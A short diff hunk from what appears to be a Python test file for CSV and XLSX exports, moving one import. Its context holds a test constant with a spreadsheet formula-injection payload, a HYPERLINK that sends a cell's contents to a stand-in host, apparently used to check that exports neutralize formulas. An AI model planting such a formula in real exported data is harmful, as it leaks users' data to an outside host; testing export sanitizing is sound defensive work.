@@ -11,7 +11,7 @@ from console_helpers import login, populated_meeting, register
 from openpyxl import load_workbook
 
 from meetings.console.exports import neutralize, to_csv, to_xlsx
-from meetings.models import AuditEntry
+from meetings.core.audit import AuditEntry
 
 EVIL = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")'
 
